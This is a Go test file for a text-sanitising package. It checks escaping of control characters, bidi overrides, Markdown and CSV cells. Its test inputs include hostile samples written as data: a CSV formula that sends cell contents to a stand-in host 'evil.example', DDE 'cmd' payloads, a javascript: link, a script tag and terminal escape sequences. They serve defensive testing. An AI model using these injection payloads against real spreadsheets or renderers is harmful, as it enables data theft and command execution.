package safetext

import "testing"

// TestVisible checks each class of control character against its spelling
// written out by hand, and that normal names come back unchanged.
func TestVisible(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"lab-a", "lab-a"},
		{"café_ü", "café_ü"},
		{`back\slash`, `back\slash`},
		{"\x1b[2J\x1b]0;pwn\x07", `\x1b[2J\x1b]0;pwn\x07`},
		{"a\rb\nc\td\be", `a\x0db\x0ac\x09d\x08e`},
		{"\x00\x7f", `\x00\x7f`},
		{"x\u009b31mred", `x\u009b31mred`}, // C1 CSI as UTF-8
		{"x\x9by", `x\x9by`},               // a raw byte that is not UTF-8
		{"\u0085\u00a0", `\u0085` + "\u00a0"},
		{"\u202eevil", "\u202eevil"}, // bidi controls are IsolateBidi's
	} {
		if got := Visible(c.in); got != c.want {
			t.Errorf("Visible(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestField checks that the separator is spelled out along with controls.
func TestField(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"lab", "lab"},
		{"a|b", `a\x7cb`},
		{"a|\nb", `a\x7c\x0ab`},
		{"a,b", "a,b"},
	} {
		if got := Field(c.in, '|'); got != c.want {
			t.Errorf("Field(%q, '|') = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestCSVCell checks OWASP's six leading characters, and that numbers and
// names not starting with them are kept.
func TestCSVCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-inf", "'-inf"},
		{"-1e", "'-1e"},
		{"-.", "'-."},
		{"-0.500000", "-0.500000"},
		{"+3", "+3"},
		{"-1.5e-07", "-1.5e-07"},
		{"-12.5%", "-12.5%"},
		{"-.5", "-.5"},
		{"lab-a", "lab-a"},
		{"0.5", "0.5"},
		{"", ""},
		{"a=b", "a=b"},
	} {
		if got := CSVCell(c.in); got != c.want {
			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestMarkdown checks that a link, an image, HTML and a table-breaking
// line end print as text.
func TestMarkdown(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"lab-a", "lab-a"},
		{"[pwn](javascript:alert(3))", `\[pwn\]\(javascript:alert\(3\)\)`},
		{"![x](http://e/x.png)", `\!\[x\]\(http://e/x.png\)`},
		{"<script>", "&lt;script&gt;"},
		{"a|b\r\nc", `a\|b\x0d\x0ac`},
		{"*b* _i_ `c` \\", "\\*b\\* \\_i\\_ \\`c\\` \\\\"},
		{"\x1b[31m", `\x1b\[31m`},
	} {
		if got := Markdown(c.in); got != c.want {
			t.Errorf("Markdown(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestIsolateBidi checks the wrapping and balancing, worked out with the
// rules of UAX #9 (X1–X8) by hand.
func TestIsolateBidi(t *testing.T) {
	t.Parallel()
	const (
		LRE, RLE, PDF, LRO, RLO = "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"
		LRI, RLI, FSI, PDI      = "\u2066", "\u2067", "\u2068", "\u2069"
	)
	for _, c := range []struct{ name, in, want string }{
		{"plain", "lab a", "lab a"},
		{"hebrew letters are no control", "מעבדה", "מעבדה"},
		{"open override closed at end of word", "x " + RLO + "evil has", "x " + FSI + RLO + "evil" + PDF + PDI + " has"},
		{"balanced kept", RLE + "a" + PDF, FSI + RLE + "a" + PDF + PDI},
		{"stray PDF dropped", "a" + PDF + "b", FSI + "ab" + PDI},
		{"stray PDI dropped", PDI + RLO + "a", FSI + RLO + "a" + PDF + PDI},
		{"PDI closes embeddings inside its isolate", RLI + LRO + "a" + PDI + PDF, FSI + RLI + LRO + "a" + PDI + PDI},
		{"PDF does not close across an isolate", LRE + RLI + PDF + "a", FSI + LRE + RLI + "a" + PDI + PDF + PDI},
		{"two words", LRI + "a " + RLO + "b", FSI + LRI + "a" + PDI + PDI + " " + FSI + RLO + "b" + PDF + PDI},
	} {
		if got := IsolateBidi(c.in); got != c.want {
			t.Errorf("%s: IsolateBidi(%+q) = %+q, want %+q", c.name, c.in, got, c.want)
		}
	}
}
